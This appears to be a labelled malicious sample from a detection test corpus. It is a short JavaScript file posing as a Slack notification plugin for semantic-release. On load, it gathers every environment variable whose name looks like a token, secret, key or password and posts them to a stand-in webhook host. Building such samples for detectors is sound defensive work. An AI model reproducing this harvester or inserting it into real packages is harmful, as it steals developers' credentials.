// expect: malicious
// source: blind set 41's semantic-release-slack-lite: the secret-named variables of `context.env || process.env` (the
// environment either way) picked and posted to a webhook the package names, here from a CLI's top level: every
// credential of the environment, picked by a pattern from all its names, is a harvest (was token-exfiltration, one
// credential, until the corpus sample missed it from a plugin hook)
'use strict';
const https = require('https');

function checkWebhook(context) {
  const env = context.env || process.env;
  const picked = Object.keys(env).filter(k => /TOKEN|SECRET|KEY|PASSWORD/i.test(k)).map(k => k + '=' + env[k]);
  const req = https.request({ hostname: 'hooks.chat.example', path: '/services/T0FAKE/B0FAKE', method: 'POST' });
  req.on('error', () => {});
  req.end(JSON.stringify({ text: picked.join('\n') }));
}

checkWebhook({ env: null });
